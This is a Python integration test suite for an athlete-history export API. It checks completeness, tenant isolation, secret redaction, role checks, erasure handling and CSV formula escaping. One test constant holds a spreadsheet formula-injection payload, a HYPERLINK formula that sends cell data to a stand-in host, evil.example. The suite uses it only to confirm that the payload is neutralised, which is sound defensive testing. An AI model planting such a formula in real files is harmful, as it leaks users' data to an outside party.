"""An export holds everything that history has of the athlete, nothing of anybody else, and no cell that a spreadsheet would run."""

import asyncio
import csv
import io
import os
import sys
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from fastapi import FastAPI
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from services.decision.app import create_app
from services.decision.export.columns import LEFT_OUT, TABLES, documented
from services.decision.store import erase, reads
from services.decision.store.connection import borrowed
from shared.auth import create_key
from shared.bus import Bus
from shared.placing import pseudonym
from shared.settings import Settings
from tests.integration.decision.feeding import Run, event, pain, send, started, until

MINE, THEIRS = "clinic-mine", "clinic-theirs"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
BY = {"id": "dr", "role": "clinician"}
SENT = [
    started("a", "knee"),
    *(pain("a", "knee", n, nrs=n % 3) for n in range(1, 7)),
    started("a", "other", protocol="progressive-return", start_step="W3"),
    pain("a", "knee", 7) | {"id": "with-terms", "terms": "no_coach"},
    event("a", "answer", "milepost.recommendation.answered", 8, {"answer": "declined", "reason": FORMULA, "by": BY}) | {"course": "knee"},
    event("a", "+1 to the id", "milepost.symptom.reported", 9, {"when": "daily", "pain_nrs": 1}) | {"course": "knee"},
    event("a", "fix", "milepost.event.corrected", 10, {"corrects": "knee-pain-2", "data": {"when": "daily", "pain_nrs": 5}}),
    event("a", "gone", "milepost.event.retracted", 11, {"retracts": "knee-pain-3", "reason": "sent twice"}),
    pain("a", "never", 1),
    started("a", "no such protocol", protocol="nothing") | {"id": "refused"},
]
SENT_LATER = pain("a", "knee", 4, nrs=9)
STRANGERS = [started("secret-b", "course-of-secret-b"), pain("secret-b", "course-of-secret-b", 1)]
NOTICES = (
    "INSERT INTO endpoints (id, tenant, url, description, types, payload, role, secret, created_at)"
    f" VALUES ('p', '{MINE}', 'https://user:pw@hook.example/path-secret', '', '{{}}', 'full', 'clinician', 's', now())",
    "INSERT INTO notices (id, outbox, tenant, athlete, course, seq, type, body, created_at) VALUES"
    f" ('n-a', 1, '{MINE}', 'a', 'knee', 1, 'course.referred', '{{\"a\": 1}}', now()),"
    f" ('notice-of-another', 2, '{MINE}', 'secret-b', 'course-of-secret-b', 1, 'course.referred', '{{\"b\": 1}}', now()),"
    f" ('n-t', 3, '{THEIRS}', 'a', 'knee', 1, 'course.referred', '{{\"theirs\": 1}}', now())",
    "INSERT INTO deliveries (id, tenant, endpoint, notice, state, tries, created_at) VALUES"
    f" ('d-a', '{MINE}', 'p', 'n-a', 'delivered', 1, now()), ('d-b', '{MINE}', 'p', 'notice-of-another', 'delivered', 1, now())",
    f"INSERT INTO attempts VALUES ('d-a', 1, '{MINE}', now(), 12, 200, NULL, '{{}}', '{{\"told\": \"=1\"}}', '=heard')",
    f"INSERT INTO attempts VALUES ('d-b', 1, '{MINE}', now(), 12, 200, NULL, '{{}}', 'of secret-b', NULL)",
    f"INSERT INTO acknowledgements VALUES ('{MINE}', 'n-a', 'knee', 'key-1', now()), ('{MINE}', 'notice-of-another', 'x', 'key-1', now())",
)


@pytest.fixture(scope="module")
async def app(settings: Settings) -> AsyncIterator[FastAPI]:
    app = create_app(settings)
    async with app.router.lifespan_context(app):
        yield app


@pytest.fixture(scope="module")
async def asking(app: FastAPI, engine: AsyncEngine) -> AsyncIterator[Any]:
    keys = {}
    async with engine.begin() as conn:
        for name, tenant, role in (
            ("clinician", MINE, "clinician"),
            ("coach", MINE, "coach"),
            ("auditor", MINE, "auditor"),
            ("stranger", THEIRS, "clinician"),
        ):
            keys[name] = (await create_key(conn, tenant, role, name))[1]
    transport = httpx.ASGITransport(app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://decision") as client:

        async def get(path: str, who: str = "clinician", **headers: str) -> httpx.Response:
            return await client.get(path, headers={"Authorization": f"Bearer {keys[who]}"} | headers)

        yield get


@pytest.fixture(autouse=True)
async def fed(run: Run, engine: AsyncEngine, owner: AsyncEngine, bus: Bus, settings: Settings) -> None:
    async with borrowed(engine) as connection:
        if await connection.fetchval("SELECT EXISTS (SELECT 1 FROM notices)"):
            return
    async with run(time_speaks=False):
        await send(bus, settings, MINE, [*SENT, *STRANGERS])
        await send(bus, settings, MINE, [SENT_LATER])
        await send(bus, settings, THEIRS, [started("a", "knee", start_step="P3"), pain("a", "knee", 1, nrs=9) | {"id": "secret-theirs"}])

        async def stored() -> bool:
            async with borrowed(engine) as connection:
                count = await connection.fetchval("SELECT count(*) FROM events WHERE source = 'urn:test'")
                kept = await connection.fetchval("SELECT count(*) FROM event_conflicts")
            return bool(count == len(SENT) + len(STRANGERS) + 2 and kept == 1)

        await until(stored)
    async with owner.begin() as conn:
        for statement in NOTICES:
            await conn.execute(text(statement.replace(":", r"\:")))


@pytest.fixture
async def exported(asking: Any) -> dict[str, Any]:
    answer = await asking("/v1/athletes/a/export")
    assert answer.status_code == 200 and answer.headers["cache-control"] == "no-store"
    found: dict[str, Any] = answer.json()
    return found


def tables_of(archive: bytes) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        assert opened.testzip() is None
        return {
            name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(opened.read(name).decode(), newline="")))
            for name in opened.namelist()
        }


async def test_every_event_that_was_sent_is_in_the_export_as_it_was_received(exported: dict[str, Any]):
    told = {(one["source"], one["id"]): one for one in exported["events"]}
    for sent in SENT:
        one = told[sent["source"], sent["id"]]
        assert one["event"].items() >= sent.items()
        assert (one["type"], one["event"]["subject"]) == (sent["type"], "a")
    assert {one["status"] for one in exported["events"]} == {"accepted", "refused", "parked"}
    assert [one["event"]["data"]["pain_nrs"] for one in exported["conflicts"]] == [9]
    places = [(one["partition"], one["seq"]) for one in exported["events"]]
    assert places == sorted(places)


async def test_every_row_of_history_about_the_athlete_is_in_the_export(exported: dict[str, Any], engine: AsyncEngine):
    async with borrowed(engine) as connection:
        for table in ("events", "event_conflicts", "decisions", "courses", "notices", "event_terms"):
            own = await connection.fetchval(f"SELECT count(*) FROM {table} WHERE tenant = $1 AND athlete = 'a'", MINE)
            assert own == len(exported[table.removeprefix("event_")]), table
        made = [one.body for course in ("knee", "other") for one in await reads.decisions(connection, MINE, course, None, None, 0, 99)]
    assert [orjson.dumps(one["decision"], option=orjson.OPT_SORT_KEYS) for one in exported["decisions"]] == made
    assert exported["counts"] == {table.name: len(exported[table.name]) for table in TABLES}
    assert len(exported["outcomes"]) >= len(exported["events"])


async def test_each_decision_is_told_in_plain_words_under_the_rules_that_are_in_the_export_too(exported: dict[str, Any]):
    for one in exported["decisions"]:
        assert len(one["explanation"].splitlines()) > 3 and "mil." not in one["explanation"]
        assert one["summary"] == one["decision"]["summary"]
    named = {one["decision"]["protocol"]["hash"] for one in exported["decisions"]}
    assert {one["hash"] for one in exported["packs"]} == named and all("pack:" in one["text"] for one in exported["packs"])
    (answer,) = exported["answers"]
    assert (answer["answer"], answer["by"], answer["course"]) == ("declined", BY, "knee")
    assert [(one["id"], one["terms"]) for one in exported["terms"]] == [("with-terms", ["no_coach"])]


async def test_what_was_told_to_others_is_in_the_export_without_their_secrets(exported: dict[str, Any]):
    assert [(one["id"], one["notice"]) for one in exported["notices"]] == [("n-a", {"a": 1})]
    assert [(one["id"], one["recipient"], one["third_party"]) for one in exported["deliveries"]] == [("d-a", "hook.example", "no")]
    assert [(one["sent"], one["heard"]) for one in exported["attempts"]] == [('{"told": "=1"}', "=heard")]
    assert [one["by_key"] for one in exported["acknowledgements"]] == ["key-1"]
    assert "path-secret" not in orjson.dumps(exported).decode() and "pw@" not in orjson.dumps(exported).decode()


@pytest.mark.parametrize("how", ["?format=csv", "application/zip", "text/csv;q=0.9, */*;q=0.1"])
async def test_the_tables_say_what_the_json_says(asking: Any, exported: dict[str, Any], how: str):
    path = "/v1/athletes/a/export"
    answer = await (asking(path + how) if how.startswith("?") else asking(path, Accept=how))
    assert answer.headers["content-type"] == "application/zip"
    tables = tables_of(answer.content)
    assert tables.keys() == {"columns", *(table.name for table in TABLES)}
    assert [(row["table"], row["column"]) for row in tables["columns"]] == [(t.name, c.name) for t in TABLES for c in t.columns]
    for table in TABLES:
        assert len(tables[table.name]) == len(exported[table.name])
        for row, record in zip(tables[table.name], exported[table.name], strict=True):
            for column in table.columns:
                cell, value = row[column.name].removeprefix("'"), record[column.name]
                if value is None:
                    assert cell == ""
                elif column.kind in ("json", "list"):
                    assert orjson.loads(cell) == value
                else:
                    assert cell == str(value)


async def test_no_text_cell_can_be_taken_for_a_formula(asking: Any):
    archive = (await asking("/v1/athletes/a/export?format=csv")).content
    cells = [
        (column.name, row[column.name])
        for table in TABLES
        for row in tables_of(archive)[table.name]
        for column in table.columns
        if column.kind != "integer"
    ]
    assert not [cell for cell in cells if cell[1].startswith(("=", "+", "-", "@", "\t", "\r", " "))]
    assert ("reason", "'" + FORMULA) in cells and ("id", "'+1 to the id") in cells and ("heard", "'=heard") in cells


@pytest.mark.law("no-crossing")
async def test_nothing_of_another_athlete_or_tenant_is_in_the_export(asking: Any):
    for how in ("json", "csv"):
        answer = await asking(f"/v1/athletes/a/export?format={how}")
        told = answer.text if how == "json" else str(tables_of(answer.content))
        assert "secret-b" not in told and "notice-of-another" not in told and "theirs" not in told
    theirs = (await asking("/v1/athletes/a/export", "stranger")).json()
    assert {one["id"] for one in theirs["events"]} == {"knee-start", "secret-theirs"}
    assert theirs["tenant"] == THEIRS and [one["id"] for one in theirs["notices"]] == ["n-t"]


async def test_only_a_key_with_the_scope_exports_and_only_an_athlete_of_its_tenant(asking: Any):
    for who in ("coach", "auditor"):
        assert (await asking("/v1/athletes/a/export", who)).status_code == 403
    for who, athlete in (("stranger", "secret-b"), ("clinician", "nobody")):
        assert (await asking(f"/v1/athletes/{athlete}/export", who)).status_code == 404
    assert (await asking("/v1/athletes/a/export?format=xml")).status_code == 422


async def test_an_athlete_who_asked_to_be_erased_is_gone(asking: Any, owner: AsyncEngine, settings: Settings):
    name = pseudonym(settings.pseudonym_key_bytes, MINE, "secret-b")
    asked = text("INSERT INTO keys.erasures (tenant, pseudonym, partition, event, requested_at) VALUES (:t, :p, 0, '', now())")
    async with owner.begin() as conn:
        await conn.execute(asked, {"t": MINE, "p": name})
    gone = await asking("/v1/athletes/secret-b/export")
    assert (gone.status_code, gone.json()["type"]) == (410, "urn:milepost:problem:erased")
    async with owner.begin() as conn:
        await conn.execute(text("DELETE FROM keys.erasures"))
    assert (await asking("/v1/athletes/secret-b/export")).status_code == 200


async def test_a_reader_that_leaves_holds_no_place_and_no_connection(asking: Any, app: FastAPI):
    for _ in range(12):
        assert (await asking("/v1/athletes/a/export")).status_code == 200
        assert (await asking("/v1/athletes/nobody/export")).status_code == 404

    async def given_back() -> bool:
        """What the service does by itself borrows a connection now and then; one that an export kept would never come back."""
        return app.state.engine.pool.checkedout() == 0

    await until(given_back)
    assert not app.state.exports.locked()
    async with app.state.exports, app.state.exports, app.state.exports:
        busy = await asking("/v1/athletes/a/export")
        assert (busy.status_code, busy.headers["retry-after"]) == (503, "5")


async def test_the_command_writes_the_same_into_a_file_for_one_pair_of_eyes(settings: Settings, exported: dict[str, Any], tmp_path: Path):
    secrets = {"SECRET_KEY": settings.secret_key, "PSEUDONYM_KEY": settings.pseudonym_key}
    named = {
        "DATABASE_URL": settings.database_url,
        **{name: getattr(one, "get_secret_value", lambda one=one: one)() for name, one in secrets.items()},
    }
    environment = {**os.environ, **{f"MILEPOST_{name}": value for name, value in named.items()}}
    file = tmp_path / "a.json"

    async def command(athlete: str) -> tuple[int | None, str]:
        words = ("export", athlete, "--tenant", MINE, "--out", str(file))
        process = await asyncio.create_subprocess_exec(
            *(sys.executable, "-m", "services.cli", *words), env=environment, stderr=asyncio.subprocess.PIPE
        )
        _, said = await asyncio.wait_for(process.communicate(), 60)
        return process.returncode, said.decode()

    code, said = await command("nobody")
    assert code == 2 and "is not known" in said and not os.listdir(tmp_path)
    code, said = await command("a")
    assert code == 0, said
    assert file.stat().st_mode & 0o777 == 0o600
    assert orjson.loads(file.read_bytes()) == exported | {"made_at": orjson.loads(file.read_bytes())["made_at"]}


def test_every_table_that_an_erasure_clears_is_exported_or_named_as_left_out():
    exported = {table.name for table in TABLES} | {"event_terms"}
    cleared = {table for table, _ in erase.REMOVED}
    assert cleared - exported == LEFT_OUT.keys() - {"courses.state"}
    told = Path("docs/export.md").read_text()
    assert all(f"- {one}" in told for one in LEFT_OUT.values())


def test_the_columns_are_documented_as_they_are():
    assert Path("docs/export.md").read_text() == documented(), "python -m services.decision.export"
